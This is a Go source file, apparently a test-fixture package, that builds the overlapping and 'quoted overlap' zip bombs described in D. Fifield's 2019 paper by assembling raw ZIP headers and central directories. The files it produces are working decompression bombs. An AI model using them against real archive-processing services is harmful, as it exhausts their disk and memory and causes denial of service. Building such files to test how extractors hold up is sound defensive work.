package bombs

import (
	"encoding/binary"
	"strings"
)

// The zips of D. Fifield, A better zip bomb (WOOT 2019): members that share their
// data.

const member = 8 << 20 // bytes that the shared data unpack to

func u16(n int) string { return string(binary.LittleEndian.AppendUint16(nil, uint16(n))) }
func u32(n int) string { return string(binary.LittleEndian.AppendUint32(nil, uint32(n))) }

// described returns the fields that a local and a central header have in common.
func described(name string, packed, size int) string {
	return u16(0) + u16(8) + u32(0) + u32(0) + u32(packed) + u32(size) + u16(len(name)) + u16(0)
}

func local(name, data string, size int) string {
	return "PK\x03\x04" + u16(20) + described(name, len(data), size) + name + data
}

func central(name string, packed, size, offset int) string {
	return "PK\x01\x02" + u16(20) + u16(20) + described(name, packed, size) + u16(0) + u16(0) + u16(0) + u32(0) + u32(offset) + name
}

func end(n, size, offset int) string {
	return "PK\x05\x06" + u16(0) + u16(0) + u16(n) + u16(n) + u32(size) + u32(offset) + u16(0)
}

// overlapping lists one member n times (section 2, full overlap).
func overlapping(n int) []byte {
	kernel := string(zeros(member).packed)
	out := local("zeros", kernel, member)
	directory := strings.Repeat(central("zeros", len(kernel), member, 0), n)
	return []byte(out + directory + end(n, len(directory), len(out)))
}

// quoting returns n members, the data of each of which are a stored block with the next
// one's header, and then that one's data (section 3, quoted overlap).
func quoting(n int) []byte {
	out := local("000", string(zeros(member).packed), member)
	type place struct {
		name                 string
		packed, size, behind int
	}
	places := []place{{"000", len(out) - 33, member, len(out)}}
	size := member
	for i := 1; i < n; i++ {
		name := string([]byte{'0' + byte(i/100), '0' + byte(i/10%10), '0' + byte(i%10)})
		const header = 33
		data := "\x00" + u16(header) + u16(^header) + out
		size += header
		out = local(name, data, size)
		places = append(places, place{name, len(data), size, len(out)})
	}
	directory := ""
	for _, p := range places {
		directory += central(p.name, p.packed, p.size, len(out)-p.behind)
	}
	return []byte(out + directory + end(n, len(directory), len(out)))
}
